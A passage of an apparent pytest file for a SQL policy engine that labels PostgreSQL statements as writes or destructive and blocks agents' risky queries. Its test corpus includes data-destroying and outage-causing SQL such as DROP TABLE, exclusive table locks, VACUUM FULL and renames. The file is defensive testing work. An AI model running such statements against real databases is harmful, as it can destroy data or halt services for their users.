    ("CREATE FUNCTION f(k int) RETURNS void LANGUAGE sql AS 'DELETE FROM t WHERE id = k'",
     "create", "write", A, {"rows": True, "counted": False}),
    ("delete from orders where created_at < now() - interval '1 year'", "delete", "write", A),
    ("UPDATE accounts SET balance = balance - 10 WHERE id = 42", "update", "write", A,
     {"rows": True, "counted": True, "literal_free": True}),
    ("UPDATE t SET a = 1 WHERE id = 1 RETURNING *", "update", "write", A,
     {"rows": True, "counted": True}),
    ("UPDATE t SET a = lower(b) WHERE id = 1", "update", "write", A,
     {"rows": True, "counted": False}),
    ("UPDATE t SET a = (SELECT max(b) FROM u) WHERE id = 1", "update", "write", A,
     {"rows": True, "counted": False}),
    ("UPDATE t SET a = a OPERATOR(public.##) 1 WHERE id = 1", "update", "write", A,
     {"rows": True, "counted": False}),
    ("WITH d AS (DELETE FROM t WHERE id = 1 RETURNING id) UPDATE u SET a = 1 "
     "WHERE id IN (SELECT id FROM d)", "update", "write", A, {"rows": True, "counted": False}),
    ("EXPLAIN ANALYZE UPDATE t SET a = 1 WHERE id = 1", "explain", "write", A,
     {"rows": True, "counted": False}),
    ("EXPLAIN UPDATE t SET a = 1", "explain", "", A, {"rows": False}),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'UPDATE t SET a = 1 WHERE id = 2'",
     "create", "write", A, {"rows": True, "counted": False}),
    ("UPDATE v SET a = 1 WHERE id = 1", "update", "write", A,
     {"written": ["public.v"], "rows": True}),
    ("DELETE FROM app.v WHERE id = 1", "delete", "write", A, {"written": ["app.v"]}),
    ("INSERT INTO v (a) VALUES (1)", "insert", "write", A,
     {"written": ["public.v"], "rows": False, "counted": False}),
    ("INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING", "insert", "write", A,
     {"rows": False, "counted": False}),
    ("update t set a = 1 where id in (1, 2, 3)", "update", "write", A),
    ("delete from t where id = 1 and 1 = 1", "delete", "write", A),
    ("delete from t where id = $1", "delete", "write", A),
    ("update t set a = a + 1 where id = $1", "update", "write", A),
    ("UPDATE t SET a = 1 WHERE CURRENT OF c", "update", "write", A),
    ("DELETE FROM t USING u WHERE t.id = u.id", "delete", "write", A),
    ("with x as (delete from t where id = 1 returning *) select * from x", "select", "write", A,
     {"rows": True, "counted": False}),
    ("WITH ins AS (INSERT INTO t VALUES (1) RETURNING id) SELECT * FROM ins", "select",
     "write", A),
    # harmless DO blocks and functions
    ("DO $$ BEGIN RAISE NOTICE 'hello'; END $$", "do", "", A),
    ("DO $$ DECLARE n int; BEGIN SELECT count(*) INTO n FROM orders; RAISE NOTICE '%', n; "
     "END $$", "do", "", A),
    ("DO $$ BEGIN UPDATE t SET a = 1 WHERE id = 3; END $$", "do", "write", A,
     {"rows": True, "counted": False, "literal_free": False}),
    ("do $$ begin perform 'drop table t'; end $$", "do", "", A),
    ("do $$ declare x int; begin x := 1 + 2; end $$", "do", "", A),
    ("CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql AS 'SELECT a + b'", "create",
     "", A),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$",
     "create", "", A),
    ("CREATE FUNCTION g(x int) RETURNS int RETURN x + 1", "create", "", A),
    # COPY to and from the client
    ("COPY t FROM STDIN", "copy", "write", A, {"written": ["public.t"]}),
    ("COPY t TO STDOUT", "copy", "", A, {"read": ["public.t"]}),
    ("COPY (SELECT * FROM t) TO STDOUT WITH CSV", "copy", "", A),
    ("copy t (a, b) from stdin with (format csv)", "copy", "write", A),
    # settings and session
    ("SET statement_timeout = '5s'", "set", "", A,
     {"settings": [("statement_timeout", "5s")], "literal_free": False}),
    ("SET standard_conforming_strings = on", "set", "", A),
    ("set client_encoding = 'UTF8'", "set", "", A),
    ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "set", "", A,
     {"settings": [("transaction_isolation", "serializable")]}),
    ("RESET ALL", "reset", "", A, {"settings": []}),
    ("SET application_name = 'my-agent'", "set", "", A,
     {"settings": [("application_name", "my-agent")]}),
    ("SET TIME ZONE 'UTC'", "set", "", A, {"settings": [("timezone", "UTC")]}),
    ("SET LOCAL work_mem = '64MB'", "set", "", A, {"settings": [("work_mem", "64MB")]}),
    ("SET DateStyle = ISO, DMY", "set", "", A, {"settings": [("datestyle", "iso, dmy")]}),
    ("RESET statement_timeout", "reset", "", A, {"settings": [("statement_timeout", None)]}),
    ("SET enable_seqscan = off", "set", "", A),
    ("BEGIN READ ONLY", "begin", "", A, {"settings": [("transaction_read_only", "on")]}),
    ("SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY", "set", "", A),
    ("SET default_transaction_read_only = on", "set", "", A),
    ("select set_config('statement_timeout', '1s', true)", "select", "", A,
     {"settings": [("statement_timeout", "1s")]}),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = pg_catalog "
     "AS 'select 1'", "create", "", A, {"settings": []}),
    ("SHOW search_path", "show", "", A),
    ("DISCARD PLANS", "discard", "", A),
    ("BEGIN", "begin", "", A),
    ("START TRANSACTION ISOLATION LEVEL REPEATABLE READ", "begin", "", A),
    ("COMMIT", "commit", "", A),
    ("ROLLBACK", "rollback", "", A),
    ("SAVEPOINT a", "savepoint", "", A),
    ("RELEASE a", "release", "", A),
    ("ROLLBACK TO SAVEPOINT a", "rollback", "", A),
    ("end", "commit", "", A),
    # prepared statements
    ("PREPARE p AS SELECT * FROM t WHERE id = $1", "prepare", "", A),
    ("PREPARE q (int) AS UPDATE t SET a = 1 WHERE id = $1", "prepare", "write", A,
     {"rows": True, "counted": False}),
    ("PREPARE p2 AS SELECT 1; EXECUTE p2", "prepare,execute", "", A),
    ("DEALLOCATE p", "deallocate", "", A),
    ("DEALLOCATE ALL", "deallocate", "", A),
    # schema changes that destroy nothing
    ("CREATE TABLE t (id int primary key)", "create", "", A, {"written": ["public.t"]}),
    # (a foreign key puts triggers on the table it references: destructive, round 16)
    ("CREATE TABLE s.t (id int REFERENCES u(id))", "create", "destructive", B),
    ("CREATE INDEX ON t (a)", "create", "", A),
    ("CREATE VIEW v AS SELECT * FROM t", "create", "", A,
     {"written": ["public.v"], "read": ["public.t"]}),
    ("ALTER TABLE t ADD COLUMN note text", "alter", "", A),
    # renames and schema moves take the old name out of every rule's and mask's reach
    ("ALTER TABLE t RENAME COLUMN a TO b", "alter", "destructive", B),
    ("ALTER TABLE orders RENAME TO o2", "alter", "destructive", B),
    ("ALTER TABLE IF EXISTS orders SET SCHEMA archive", "alter", "destructive", B),
    ("ALTER VIEW v RENAME TO v2", "alter", "destructive", B),
    ("ALTER SCHEMA public RENAME TO p2", "alter", "destructive", B),
    ("ALTER FUNCTION f(int) SET SCHEMA s2", "alter", "destructive", B),
    # ... and so does a constraint's rename (ON CONFLICT ON CONSTRAINT names it: round 18)
    ("ALTER TABLE t RENAME CONSTRAINT c TO c2", "alter", "destructive", B),
    ("ALTER DOMAIN d RENAME CONSTRAINT c TO c2", "alter", "destructive", B),
    # Postgres renames a table through ALTER INDEX ... RENAME too: not harmless
    ("ALTER INDEX t_pkey RENAME TO t_pk", "alter", "destructive", B),
    ("ALTER INDEX orders RENAME TO o2", "alter", "destructive", B),
    # a foreign key whose actions change this table's rows from statements on another
    # (and any constraint added to an existing table can refuse later writes: round 15)
    ("ALTER TABLE orders ADD CONSTRAINT fk FOREIGN KEY (c) REFERENCES customers(id) "
     "ON DELETE CASCADE", "alter", "destructive opaque", B),
    ("ALTER TABLE orders ADD COLUMN c2 int REFERENCES customers ON UPDATE SET NULL",
     "alter", "destructive opaque", B),
    ("ALTER TABLE orders ADD FOREIGN KEY (c) REFERENCES customers ON DELETE SET DEFAULT",
     "alter", "destructive opaque", B),
    ("ALTER TABLE orders ADD FOREIGN KEY (c) REFERENCES customers ON DELETE RESTRICT",
     "alter", "destructive", B),
    ("ALTER TABLE orders ADD CONSTRAINT c CHECK (statement_timestamp() < '2030-01-01')",
     "alter", "destructive", B),
    ("ALTER TABLE orders ALTER COLUMN status SET NOT NULL", "alter", "destructive", B),
    ("ALTER TABLE orders ADD COLUMN c int NOT NULL", "alter", "destructive", B),
    ("ALTER TABLE orders ADD COLUMN c int NOT NULL DEFAULT 0", "alter", "", A),
    ("CREATE UNIQUE INDEX u ON orders ((true)) WHERE id > 1000", "create", "destructive", B),
    ("CREATE INDEX i ON orders (status)", "create", "", A),
    ("CREATE TEMP TABLE tmp AS SELECT * FROM t", "create", "", A,
     {"written": ["pg_temp.tmp"], "read": ["public.t"]}),
    ("CREATE SCHEMA reports", "create", "", A),
    ("VACUUM ANALYZE t", "vacuum", "", A),
    ("ANALYZE t", "analyze", "", A),
    # locks that stop every other session's writes or reads of a whole table: an outage
    ("LOCK TABLE t IN SHARE MODE", "lock", "destructive", B),
    ("LOCK t", "lock", "destructive", B),
    ("BEGIN; LOCK TABLE ONLY t IN ACCESS EXCLUSIVE MODE NOWAIT", "begin,lock", "destructive", B),
    ("LOCK TABLE t IN EXCLUSIVE MODE", "lock", "destructive", B),
    ("LOCK TABLE t IN ROW EXCLUSIVE MODE", "lock", "", A),
    ("LOCK TABLE t IN ACCESS SHARE MODE", "lock", "", A),
    ("VACUUM FULL t", "vacuum", "destructive", B),
    ("VACUUM (FULL, ANALYZE, VERBOSE) t", "vacuum", "destructive", B),
    ("VACUUM (FULL true)", "vacuum", "destructive", B),
    ("VACUUM (FULL false, ANALYZE) t", "vacuum", "", A),
    ("VACUUM (FULL off) t", "vacuum", "", A),
    ("VACUUM (FULL false, FULL) t", "vacuum", "destructive", B),    # the last one counts
    ("VACUUM (FULL off, FULL on, VERBOSE) t", "vacuum", "destructive", B),
    ("VACUUM (FULL, FULL false) t", "vacuum", "", A),
    ("VACUUM (FULL 'maybe') t", "vacuum", "destructive", B),        # unread: on
    ("CLUSTER t USING t_pkey", "cluster", "destructive", B),
    ("CLUSTER", "cluster", "destructive", B),
    ("REINDEX TABLE t", "reindex", "destructive", B),
    ("REINDEX INDEX t_pkey", "reindex", "destructive", B),
    ("REINDEX SCHEMA public", "reindex", "destructive", B),
    ("REINDEX TABLE CONCURRENTLY t", "reindex", "", A),
    ("REINDEX (CONCURRENTLY, VERBOSE) INDEX t_pkey", "reindex", "", A),
    ("REINDEX (CONCURRENTLY, CONCURRENTLY false) TABLE t", "reindex", "destructive", B),
    ("REINDEX (CONCURRENTLY off, CONCURRENTLY) TABLE t", "reindex", "", A),
    ("REINDEX (CONCURRENTLY 'maybe') TABLE t", "reindex", "destructive", B),
    # everyday reads and writes
    ("LISTEN ch", "listen", "", A),
    ("NOTIFY ch, 'x'", "notify", "", A),
    ("UNLISTEN *", "unlisten", "", A),
    ("DECLARE c CURSOR FOR SELECT * FROM t", "declare", "", A),
    ("FETCH 10 FROM c", "fetch", "", A),
    ("MOVE NEXT IN c", "move", "", A),
    ("CLOSE c", "close", "", A),
    ("SELECT nextval('s')", "select", "", A),
    ("select pg_sleep(1)", "select", "", A),
    ("select now(), current_user, version()", "select", "", A),
    ("WITH x AS (SELECT 1) SELECT * FROM x", "select", "", A, {"read": []}),
    ("select * from t for update", "select", "", A),
    ("VALUES (1), (2)", "select", "", A),
    ("TABLE t", "select", "", A, {"read": ["public.t"]}),
    ("select count(*) from pg_stat_activity", "select", "", A),
    ("select lower(name) from users where id = 1", "select", "", A,
     {"functions": ["lower"], "read": ["public.users"]}),
    ("SELECT abalance FROM pgbench_accounts WHERE aid = 42", "select", "", A,
     {"read": ["public.pgbench_accounts"], "literal_free": True, "rows": False}),
    ("select a.x, b.y from s.a a join b on a.id = b.id join c using (k)", "select", "", A,
     {"read": ["s.a", "public.b", "public.c"]}),
    ("select * from t where id in (select id from u where u.x > 3)", "select", "", A,
     {"read": ["public.t", "public.u"]}),
    ("INSERT INTO t (a) SELECT b FROM u ON CONFLICT (a) DO UPDATE SET a = excluded.a",
     "insert", "write", A, {"written": ["public.t"], "read": ["public.u"], "rows": True,
                            "counted": True}),
    ("INSERT INTO t VALUES (1, 2) ON CONFLICT (id) DO UPDATE SET a = 0 WHERE t.a > 5",
     "insert", "write", A, {"rows": True, "counted": True}),
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND s.deleted THEN DELETE", "merge",
     "write", A),
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a "
     "WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.a)", "merge", "write", A,
     {"rows": True, "counted": True}),
    ("MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id)",
     "merge", "write", A, {"rows": False, "counted": False}),
    ("select * from pg_class c join pg_catalog.pg_namespace n on n.oid = c.relnamespace",
     "select", "", A, {"read": ["pg_catalog.pg_class", "pg_catalog.pg_namespace"]}),
    ("select 1; select 2", "select,select", "", A),
    ("SELECT 'é' AS \"ü\"; SELECT 2", "select,select", "", A),
]

PARSE_ERRORS = [
    "select from where",
    "DELETE FROM",
    "PREPARE q AS DROP TABLE t",
    "DROP TABLE t; selec 1",
    "select 'unterminated",
    "select $$unterminated",
    "DO $$ BEGIN $$ $$",
]

CORPUS = REFUSE + CATALOG + LOSSY + EVERY_ROW + SETTINGS_REFUSED + ALLOW


def test_corpus_is_large_enough():
    assert len(CORPUS) + len(PARSE_ERRORS) >= 150


def _ids(entries):
    return [e[0][:60] for e in entries]


@pytest.fixture(scope="module")
def engine():
    return PolicyEngine(loads(""))


@pytest.mark.parametrize("entry", CORPUS, ids=_ids(CORPUS))
def test_classification(entry):
    sql, kinds, flags, decision = entry[:4]
    extra = entry[4] if len(entry) > 4 else {}
    if kinds is None:
        with pytest.raises(classify_mod.PolicyParseError):
            classify(sql)
        return
    stmts = classify(sql)
    assert ",".join(s.kind for s in stmts) == kinds
    got = set()
    for s in stmts:
        got.update(s.flags)
        # every flag comes with at least one reason
        for f in s.flags:
            assert s.reasons_for(f), (f, s)
    assert got == set(flags.split()), stmts
    st = stmts[0] if len(stmts) == 1 else None
    if st is not None:
        if "written" in extra:
            assert list(st.relations_written) == extra["written"]
        if "read" in extra:
            assert list(st.relations_read) == extra["read"]
        if "functions" in extra:
            assert list(st.functions) == extra["functions"]
        if "kinds" in extra:
            assert list(st.kinds) == extra["kinds"]
        if "settings" in extra:
            assert list(st.settings) == extra["settings"]
        if "rows" in extra:
            assert st.changes_rows is extra["rows"]
        if "counted" in extra:
            assert st.counted_by_tag is extra["counted"]
        if "literal_free" in extra:
            assert st.literal_free is extra["literal_free"]


@pytest.mark.parametrize("entry", CORPUS, ids=_ids(CORPUS))
def test_default_agent_decision(engine, entry):
    sql, _, flags, decision = entry[:4]
    d = engine.decide(sql, "agent-x", Identity(kind="agent"), "app")
    assert d.action == decision, d
    if decision == "block":
        assert d.rule in ("guarded-default", "parse-error", "settings")
        if entry in SETTINGS_REFUSED:
            assert d.rule == "settings", d
        assert d.rule in d.message
        assert d.detail and d.hint
    again = engine.decide(sql, "agent-x", Identity(kind="agent"), "app")
    if "EXECUTE" in sql.upper():
        assert again == d            # depends on the session's prepared statements: uncached
    else:
        assert again is d            # served from the exact cache


@pytest.mark.parametrize("entry", CORPUS, ids=_ids(CORPUS))
def test_fast_path_matches_slow_path(entry):
    sql = entry[0]
    if entry[1] is None:
        return
    fast = classify(sql)
    classify_mod._USE_FAST = False
    try:
        slow = classify(sql)
    finally:
        classify_mod._USE_FAST = True
    assert fast == slow


@pytest.mark.parametrize("sql", PARSE_ERRORS)
def test_parse_errors_are_refused(engine, sql):
    with pytest.raises(classify_mod.PolicyParseError):
        classify(sql)
    d = engine.decide(sql, "agent-x", Identity(kind="agent"), "app")
    assert d.action == "block" and d.rule == "parse-error"
    assert "parse-error" in d.message


def test_humans_allowed_by_default(engine):
    # ... except for settings outside the allow-list, which no default opens
    human = Identity(kind="human")
    settings = engine.settings
    for sql, kinds, *_ in CORPUS:
        d = engine.decide(sql, "alice", human, "app")
        if kinds is None:
            assert d.action == "block", (sql, d)
            continue
        refused = any(settings.refusal(n, v) for st in classify(sql) for n, v in st.settings)
        assert (d.action, d.rule == "settings") == (
            ("block", True) if refused else ("allow", False)), (sql, d)
